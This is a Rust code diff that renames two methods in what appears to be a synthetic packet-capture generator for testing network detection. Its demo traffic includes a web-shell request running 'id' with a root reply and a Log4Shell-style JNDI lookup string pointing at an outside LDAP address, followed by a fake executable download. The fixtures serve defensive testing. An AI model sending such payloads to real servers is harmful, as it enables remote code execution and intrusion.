@@ -105,7 +105,7 @@ impl Tcp {
         ));
     }
 
-    pub fn to_server(&mut self, cap: &mut Capture, data: &[u8]) {
+    pub fn send(&mut self, cap: &mut Capture, data: &[u8]) {
         cap.push(build::tcp_v4(
             self.client,
             self.server,
@@ -129,7 +129,7 @@ impl Tcp {
         ));
     }
 
-    pub fn to_client(&mut self, cap: &mut Capture, data: &[u8]) {
+    pub fn reply(&mut self, cap: &mut Capture, data: &[u8]) {
         cap.push(build::tcp_v4(
             self.server,
             self.client,
@@ -221,11 +221,11 @@ pub fn demo_capture() -> Capture {
     // A normal page load.
     let mut t = Tcp::new(ws, 49152, web, 80);
     t.handshake(&mut cap);
-    t.to_server(
+    t.send(
         &mut cap,
         b"GET /index.html HTTP/1.1\r\nHost: www.example.test\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
     );
-    t.to_client(
+    t.reply(
         &mut cap,
         b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\nhello world\n",
     );
@@ -234,11 +234,11 @@ pub fn demo_capture() -> Capture {
     // A web shell answering `id` with root.
     let mut t = Tcp::new(ws, 49153, web, 8080);
     t.handshake(&mut cap);
-    t.to_server(
+    t.send(
         &mut cap,
         b"GET /cgi-bin/shell.cgi?cmd=id HTTP/1.1\r\nHost: www.example.test\r\n\r\n",
     );
-    t.to_client(
+    t.reply(
         &mut cap,
         b"HTTP/1.1 200 OK\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n",
     );
@@ -247,11 +247,11 @@ pub fn demo_capture() -> Capture {
     // A log4j-style probe, then an EXE download on the same connection.
     let mut t = Tcp::new(ws, 49154, web, 80);
     t.handshake(&mut cap);
-    t.to_server(
+    t.send(
         &mut cap,
         b"GET /search?q=${jndi:ldap://203.0.113.5/a} HTTP/1.1\r\nHost: shop.example.test\r\n\r\n",
     );
-    t.to_client(&mut cap, b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nMZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode");
+    t.reply(&mut cap, b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nMZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode");
     t.close(&mut cap);
 
     // DNS lookups, one for a dynamic-DNS name.
